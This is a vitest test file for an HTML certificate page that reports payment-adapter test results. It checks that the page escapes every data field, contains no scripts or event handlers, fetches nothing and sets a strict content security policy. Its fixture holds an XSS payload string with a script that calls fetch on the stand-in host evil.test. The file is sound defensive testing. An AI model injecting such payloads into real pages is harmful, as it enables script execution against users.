// The certificate page is one self-contained file: nothing runs, nothing is fetched, and whatever
// an adapter put in a message is shown as text, never taken as markup.
import { describe, expect, it } from 'vitest';
import type { Certificate } from './certificate.ts';
import { certificateHtml } from './html.ts';

const hostile = '<img src=x onerror="alert(1)"><script>fetch("https://evil.test")</script>';

const certificate: Certificate = {
  kind: 'gauntlet-adapter-certificate',
  version: 1,
  adapter: `./adapters/${hostile}.ts`,
  dialect: 'stripe',
  seed: 42,
  issuedAt: '2026-11-25T10:00:00.000Z',
  verdict: 'not_certified',
  reason: 'capabilities failed: error_mapping; fault classes failed: decline-mix.',
  matrix: { capabilities: { error_mapping: 'fail' }, faultClasses: { 'decline-mix': 'fail', 'provider-outage-failover': 'not_applicable' } },
  capabilities: [{ id: 'error_mapping', title: 'Error mapping', passed: false, explanation: hostile, scenarios: [{ name: 'issuer decline', ok: false, facts: ['HTTP 201'], failures: [`failed: ${hostile}`] }] }],
  faultClasses: [
    { drill: 'decline-mix', description: 'declines', status: 'fail', explanation: 'honest-errors violated', payments: 40, faultsApplied: [], faultsSkipped: [], faultHits: [], shortfalls: [], violations: [{ invariant: 'honest-errors', paymentId: 'decline-mix-0', explanation: hostile, timeline: [`t+0ms ${hostile}`] }], criteria: [{ criterion: 'maxPlatformFailureRate', limit: 0, measured: 0.15, ok: false }], historyDigest: 'abc' },
    { drill: 'provider-outage-failover', description: 'failover', status: 'not_applicable', explanation: 'not applicable: auto routing', payments: 0, faultsApplied: [], faultsSkipped: [], faultHits: [], shortfalls: [], violations: [], criteria: [], historyDigest: null },
  ],
  omitted: [],
  exploration: null,
  rerun: 'npx gauntlet certify --adapter x --dialect stripe --seed 42',
};

const ALLOWED = ['doctype', 'html', 'head', 'meta', 'title', 'style', 'body', 'header', 'h1', 'h2', 'h3', 'p', 'b', 'code', 'span', 'section', 'div', 'table', 'tr', 'th', 'td', 'a', 'details', 'summary', 'ul', 'li', 'pre'];

describe('certificateHtml', () => {
  const html = certificateHtml(certificate);

  it('has no script, no event handler and nothing to fetch, whatever the data says', () => {
    // Escaped data has no "<" left, so every "<…>" in the page is markup the page itself wrote.
    const tags = html.match(/<[a-z!][^>]*>/gi) ?? [];
    const names = new Set(tags.map((t) => /^<!?([a-z][a-z0-9]*)/i.exec(t)![1]!.toLowerCase()));
    expect([...names].filter((n) => !ALLOWED.includes(n))).toEqual([]);
    expect(tags.filter((t) => /\son\w+\s*=|\ssrc\s*=|\shref\s*=\s*"(?!#)/i.test(t))).toEqual([]);
    expect(html).toContain('&lt;script&gt;fetch(&quot;https://evil.test&quot;)&lt;/script&gt;');
    expect(html).toContain(`content="default-src 'none'; style-src 'unsafe-inline'"`);
  });

  it('shows the verdict, the seed and the matrix, failing and not-applicable cells included', () => {
    expect(html).toContain('NOT CERTIFIED');
    expect(html).toContain('seed <b>42</b>');
    expect(html).toMatch(/href="#cap-error_mapping">Error mapping<\/a><\/td><td class="cell"><span class="badge fail">FAIL/);
    expect(html).toMatch(/href="#drill-decline-mix">decline-mix<\/a><\/td><td class="cell"><span class="badge fail">FAIL/);
    expect(html).toMatch(/href="#drill-provider-outage-failover">provider-outage-failover<\/a><\/td><td class="cell"><span class="badge na">N\/A/);
  });
});
